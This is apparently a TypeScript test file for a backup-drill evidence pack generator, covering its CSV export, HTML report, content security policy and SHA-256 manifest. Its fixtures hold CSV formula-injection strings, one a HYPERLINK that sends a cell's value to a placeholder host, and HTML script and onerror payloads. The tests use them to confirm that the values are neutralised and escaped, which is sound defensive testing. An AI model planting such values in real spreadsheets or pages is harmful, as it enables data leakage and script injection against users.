import { createHash } from 'node:crypto';
import { evidenceFilesOf, type EvidenceManifest } from '../../src/shared/evidence/evidenceFiles';
import { evidencePackOf, type EvidencePack } from '../../src/shared/evidence/evidencePack';
import { parseEvidencePeriod } from '../../src/shared/evidence/evidencePeriod';
import type { RunSummary } from '../../src/shared/evidence/runSummary';
import { BACKUP_COLUMNS, DRILL_COLUMNS, backupsCsv, drillsCsv } from '../../src/shared/report/evidenceCsv';
import { renderEvidenceReport } from '../../src/shared/report/evidenceReport';
import { escapeHtml } from '../../src/shared/report/htmlText';
import { backedUp, drilled, summary } from './summaryFixture';

const P = (() => {
  const p = parseEvidencePeriod('2026-11-01', '2026-11-03', '2026-11-03');
  if ('error' in p) throw new Error(p.error);
  return p;
})();
const TARGETS = { rpoTargetHours: 26, rtoTargetMinutes: 60 };
const packOf = (s: readonly RunSummary[]): EvidencePack =>
  evidencePackOf(s, P, TARGETS, new Date('2026-11-03T12:00:00.000Z'));

const HOSTILE_NAME = '=HYPERLINK("http://x.example/?"&A1,"click")';
const SCRIPT = '<script>alert(1)</script> & "quoted"';

const hostile = (): EvidencePack =>
  packOf([
    backedUp('2026-11-02', HOSTILE_NAME),
    backedUp('2026-11-02', 'iris-a'),
    drilled('2026-11-02', 'iris-a', {
      verdict: 'failed',
      failedStage: 'iris',
      rtoMs: undefined,
      reason: SCRIPT,
      evidenceBlob: 'drill-evidence/<img src=x onerror=alert(2)>.txt',
    }),
    drilled('2026-11-03', '<b>iris-x</b>', { reason: '@SUM(A1:A9)' }),
  ]);

/** The CSV's data rows as cells (no quoted comma or line break in these fixtures' guarded cells). */
const csvRows = (csv: string): string[][] =>
  csv
    .trimEnd()
    .split('\r\n')
    .map((l) => l.split(','));

describe('evidence CSV', () => {
  it('one row per pack row, the columns in the documented order, values as stored', () => {
    const pack = packOf([backedUp('2026-11-01', 'iris-a'), drilled('2026-11-01', 'iris-a')]);
    const [header, row] = csvRows(backupsCsv(pack));
    expect(header).toEqual([...BACKUP_COLUMNS]);
    const b = pack.backups[0];
    expect(row).toEqual(BACKUP_COLUMNS.map((c) => (b?.[c] === undefined ? '' : String(b[c]))));
    expect(row?.[BACKUP_COLUMNS.indexOf('freezeWindowMs')]).toBe('1234.5');
    const [dHeader, dRow] = csvRows(drillsCsv(pack));
    expect(dHeader).toEqual([...DRILL_COLUMNS]);
    expect(dRow?.[DRILL_COLUMNS.indexOf('ageHoursAtRestore')]).toBe(String(pack.drills[0]?.ageHoursAtRestore));
    expect(dRow?.[DRILL_COLUMNS.indexOf('startedAt')]).toBe(pack.drills[0]?.startedAt);
  });

  it('a VM name or reason that starts like a formula is neutralised', () => {
    const pack = hostile();
    const backups = backupsCsv(pack);
    expect(backups).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
    expect(backups).not.toMatch(/(^|,)=HYPERLINK/m);
    const drills = drillsCsv(pack);
    expect(drills).toContain(",'@SUM(A1:A9),");
    expect(drills).not.toMatch(/(^|,)@SUM/m);
  });

  it('an empty period is a header only', () => {
    expect(backupsCsv(packOf([]))).toBe(`${BACKUP_COLUMNS.join(',')}\r\n`);
  });
});

describe('renderEvidenceReport', () => {
  const page = renderEvidenceReport(hostile());

  it('escapes everything that came from a VM or Azure', () => {
    expect(page).not.toMatch(/<script/i);
    expect(page).not.toContain('<img');
    expect(page).not.toContain('<b>iris-x');
    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;quoted&quot;');
    expect(page).toContain('&lt;b&gt;iris-x&lt;/b&gt;');
    expect(page).toContain('drill-evidence/&lt;img src=x onerror=alert(2)&gt;.txt');
  });

  it('is one self-contained printable page: A4 landscape, no script or external resource, its style allowed by hash', () => {
    expect(page).toMatch(/@page \{ size: A4 landscape;/);
    expect(page).toContain('@media print');
    expect(page).not.toMatch(/<[^>]*\s(src|href)=/i);
    expect(page).not.toMatch(/<[^>]*\sstyle=/i);
    expect(page.match(/<style>/g)).toHaveLength(1);
    const css = /<style>([\s\S]*?)<\/style>/.exec(page)?.[1] ?? '';
    const hash = createHash('sha256').update(css, 'utf8').digest('base64');
    const csp = /http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page)?.[1] ?? '';
    expect(csp.replace(/&#39;/g, "'")).toContain(`style-src 'sha256-${hash}'`);
    expect(csp).toMatch(/default-src &#39;none&#39;/);
  });

  it('states the period, the targets, per VM the tests and results, every control, the blobs and how to verify', () => {
    const pack = hostile();
    expect(page).toContain(`nights ${pack.period.from} to ${pack.period.to}`);
    expect(page).toContain(pack.generatedAt);
    expect(page).toContain(`RPO ${TARGETS.rpoTargetHours} h, RTO ${TARGETS.rtoTargetMinutes} min`);
    for (const c of pack.controls) expect(page).toContain(`<b>${c.control}</b></td>`);
    for (const vm of pack.vms) expect(page).toContain(`<td class="vm">${escapeHtml(vm.vmName)}</td>`);
    // The failed drill shows its stage and reason in the VM's row.
    expect(page).toMatch(/last \(2026-11-02\): failed at iris: &lt;script&gt;/);
    for (const d of pack.drills) expect(page).toContain(String(d.night));
    expect(page).toContain('drill-evidence/2026-11-03/&lt;b&gt;iris-x&lt;/b&gt;.txt');
    expect(page).toMatch(/How to verify: manifest\.json lists the SHA-256/);
  });

  it('a VM with no passed drill shows its restore-testing controls as not met, with why', () => {
    expect(page).toMatch(/<td class="vm">iris-a<\/td>[\s\S]*?not-met[\s\S]*?no restore drill passed in the period/);
    const cp4 = / <b>CP-4<\/b><\/td>[\s\S]*?<\/tr>/.exec(page)?.[0] ?? '';
    expect(cp4).toContain('not met: ');
    expect(cp4).toContain('iris-a');
  });
});

describe('evidenceFilesOf', () => {
  const pack = hostile();
  const files = evidenceFilesOf(pack);
  const byName = new Map(files.map((f) => [f.name, f]));

  it('the five files, manifest last', () => {
    expect(files.map((f) => f.name)).toEqual([
      'evidence.json',
      'backups.csv',
      'drills.csv',
      'report.html',
      'manifest.json',
    ]);
    expect(byName.get('report.html')?.contentType).toMatch(/^text\/html/);
  });

  it('evidence.json is the pack', () => {
    expect(JSON.parse(byName.get('evidence.json')?.body ?? '')).toEqual(JSON.parse(JSON.stringify(pack)));
  });

  it("the manifest's hashes and sizes are the other files' bodies", () => {
    const manifest = JSON.parse(byName.get('manifest.json')?.body ?? '') as EvidenceManifest;
    expect(manifest.files.map((f) => f.name)).toEqual(files.slice(0, -1).map((f) => f.name));
    for (const entry of manifest.files) {
      const body = byName.get(entry.name)?.body ?? '';
      expect(entry.sha256).toBe(createHash('sha256').update(Buffer.from(body, 'utf8')).digest('hex'));
      expect(entry.bytes).toBe(Buffer.from(body, 'utf8').length);
    }
    expect(manifest.period).toEqual({ from: pack.period.from, to: pack.period.to });
  });

  it('an edited file no longer matches its hash', () => {
    const manifest = JSON.parse(byName.get('manifest.json')?.body ?? '') as EvidenceManifest;
    const edited = (byName.get('drills.csv')?.body ?? '').replace('failed', 'passed');
    const entry = manifest.files.find((f) => f.name === 'drills.csv');
    expect(createHash('sha256').update(edited, 'utf8').digest('hex')).not.toBe(entry?.sha256);
  });

  it('the same pack gives the same bytes', () => {
    expect(evidenceFilesOf(hostile())).toEqual(files);
  });

  it('a check run alone: the VM is listed with no tests and nothing met', () => {
    const page = renderEvidenceReport(packOf([summary('2026-11-02', 'iris-c', 'check')]));
    expect(page).toMatch(
      /<td class="vm">iris-c<\/td>[\s\S]*?0 \/ 0[\s\S]*?none measured[\s\S]*?no verified point[\s\S]*?0 of 8/,
    );
  });
});

describe('renderEvidenceReport: many drills', () => {
  it("lists each VM's latest blob, and says where the others are", () => {
    const nights = ['2026-11-01', '2026-11-02', '2026-11-03'];
    const vms = Array.from({ length: 20 }, (_, i) => `iris-${String(i).padStart(2, '0')}`);
    const pack = packOf(nights.flatMap((n) => vms.map((vm) => drilled(n, vm))));
    const page = renderEvidenceReport(pack);
    expect(page.replace(/\s+/g, ' ')).toContain(
      `${nights.length * vms.length} drills left an evidence blob; each VM's latest is listed. Every blob is in drills.csv`,
    );
    const items = page.match(/<li>[^<]*<\/li>/g) ?? [];
    expect(items).toHaveLength(vms.length);
    expect(items.every((li) => li.includes('2026-11-03'))).toBe(true);
  });
});
